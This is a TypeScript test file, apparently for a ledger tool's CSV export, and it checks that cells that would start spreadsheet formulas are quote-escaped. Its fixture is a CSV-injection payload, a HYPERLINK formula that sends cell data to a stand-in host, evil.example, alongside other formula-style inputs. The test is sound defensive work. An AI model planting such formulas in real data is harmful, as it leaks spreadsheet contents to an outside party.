import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { GroupCommitAppender } from '../../src/ledger/appender.js';
import { startServe } from '../../src/serve/server.js';
import { runWrit } from '../support/cli.js';
import { freshLedger } from '../support/db.js';
import { keygen } from '../support/signing-key.js';
import { LINK_SECRET } from './fixtures.js';

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")';

/** RFC 4180 cells, quotes undone. */
function cells(csv: string): string[][] {
  return csv
    .trimEnd()
    .split('\r\n')
    .map((line) =>
      [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map((m) => {
        const cell = m[1] ?? '';
        return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
      }),
    );
}

describe('when the requester puts a spreadsheet formula into what ends up in a CSV', () => {
  test("every cell that would start a formula is prefixed with a quote, in the bundle's records.csv and in writ serve's download", async (t) => {
    const ledger = await freshLedger(t);
    // Actor ids, targets, states and approvers are text that requesters and approvers choose.
    await new GroupCommitAppender(ledger.pool).appendAll([
      {
        type: 'manual.note',
        operationId: 'op-csv',
        actor: { id: FORMULA, kind: 'user' },
        payload: { message: 'hello' },
      },
      {
        type: 'step.executed',
        operationId: 'op-csv',
        stepIndex: 0,
        state: '+1+1',
        actor: { id: '@SUM(A1:A9)', kind: 'service' },
        payload: { target: { identity: '-2+3' } },
      },
      {
        type: 'approval.granted',
        operationId: 'op-csv',
        actor: { id: '\tTAB', kind: 'user' },
        payload: { approver: '\r=CR' },
      },
    ]);
    const dir = mkdtempSync(join(tmpdir(), 'writ-csv-'));
    const signer = await keygen(dir);
    const exported = await runWrit(['export', 'op-csv', '--out', join(dir, 'bundle')], {
      env: { DATABASE_URL: ledger.url, ...signer.env, WRIT_ANCHOR_DIR: join(dir, 'anchors') },
    });
    assert.equal(exported.code, 0, exported.stdout + exported.stderr);
    const serve = await startServe({ pool: ledger.pool, port: 0, linkSecret: LINK_SECRET });
    t.after(() => serve.close());
    const download = await fetch(serve.link('op-csv', 'dana').csv);
    assert.equal(download.status, 200);

    for (const [where, csv] of [
      ['records.csv', readFileSync(join(dir, 'bundle', 'records.csv'), 'utf8')],
      ['the download', await download.text()],
    ] as const) {
      const table = cells(csv);
      const all = table.slice(1).flat();
      for (const cell of all)
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${where}: ${JSON.stringify(cell)} would run as a formula`);
      for (const hostile of [FORMULA, '@SUM(A1:A9)', '+1+1', '-2+3', '\tTAB', '\r=CR']) {
        assert.ok(all.includes(`'${hostile}`), `${where}: ${JSON.stringify(hostile)} is kept, behind a quote`);
      }
      assert.equal(
        table[0]!.join(','),
        'operation,seq,occurredAt,type,state,actor,step,target,before,after,approver,approverDiffersFromRequester',
      );
    }
  });
});
